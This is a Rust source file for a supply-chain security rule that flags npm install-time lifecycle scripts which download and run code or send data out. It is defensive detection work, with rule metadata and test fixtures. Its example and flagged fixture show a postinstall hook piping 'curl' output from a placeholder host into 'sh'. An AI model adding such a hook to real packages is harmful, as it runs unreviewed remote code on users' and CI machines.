//! PKG001: a package lifecycle script that runs dangerous shell on install.

use crate::lang::Lang::*;
use crate::rules::{fx, CodeRuleMeta};
use crate::scripts::package_scripts;
use crate::unit::Unit;
use airlock_protocol::{Category, Decision, Finding, Severity, Span};

pub static META: CodeRuleMeta = CodeRuleMeta {
    code: "PKG001",
    name: "install-time-code",
    category: Category::SupplyChain,
    severity: Severity::Critical,
    decision: Decision::Deny,
    langs: &[PackageJson],
    summary: "A `preinstall`/`install`/`postinstall`/`prepare` script downloads and runs code, sends data out, or \
              does anything else the command analysis would not allow.",
    why: "npm runs lifecycle scripts on every `npm install`, on every developer machine and CI runner, before anyone \
          looks: the classic way malicious packages spread.",
    example: "\"postinstall\": \"curl -s https://get.example.sh | sh\"",
    instead: "Keep install scripts to local build steps (`node-gyp rebuild`, `tsc`); ship needed binaries as \
              dependencies with integrity hashes.",
    references: &["CWE-506", "CWE-829"],
    flags: &[fx(PackageJson, "{\"name\": \"x\", \"scripts\": {\"postinstall\": \"curl -s https://get.example.sh | sh\"}}")],
    passes: &[
        fx(PackageJson, "{\"name\": \"x\", \"scripts\": {\"postinstall\": \"node-gyp rebuild\", \"test\": \"jest\"}}"),
        fx(PackageJson, "{\"name\": \"x\", \"scripts\": {\"build\": \"tsc -p .\"}}"),
    ],
};

/// Prefilter triggers: reads only the raw text.
pub(crate) const TRIGGERS: Option<&[&str]> = Some(&[]);

pub fn check(unit: &Unit<'_>, meta: &CodeRuleMeta, out: &mut Vec<Finding>) {
    let ctx = airlock_shell::Context {
        policy: unit.policy,
        cwd: None,
        home: None,
    };
    for s in package_scripts(unit.text) {
        if !s.install_time {
            continue;
        }
        let found = airlock_shell::analyze(&s.command, &ctx);
        let worst = found.iter().filter(|f| f.decision != Decision::Allow).max_by_key(|f| (f.decision, f.severity));
        if let Some(w) = worst {
            let span = Span::new(s.offset, s.offset + s.command.len());
            out.push(meta.finding(unit, span, format!("an install-time script runs on every `npm install` and {} [{}]", w.message, w.code)));
        }
    }
}
